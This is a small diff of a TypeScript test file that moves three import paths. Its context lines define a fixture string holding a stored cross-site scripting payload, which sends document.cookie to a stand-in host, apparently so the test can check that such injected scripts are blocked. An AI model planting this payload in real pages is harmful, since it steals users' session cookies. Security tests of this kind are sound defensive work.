@@ -2,9 +2,9 @@ import { createHash } from "node:crypto";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { testApp } from "../../../tests/support/app.ts";
 import { serve } from "../../../tests/support/serve.ts";
-import { routes } from "../routes.ts";
-import { createApp } from "./app.ts";
-import { createPages } from "./pages.ts";
+import { createApp } from "../app/app.ts";
+import { createPages } from "../app/pages.ts";
+import { routes } from "../app/routes.ts";
 
 const own = "document.title = 1";
 const stored = 'fetch("https://elsewhere.example/" + document.cookie)';
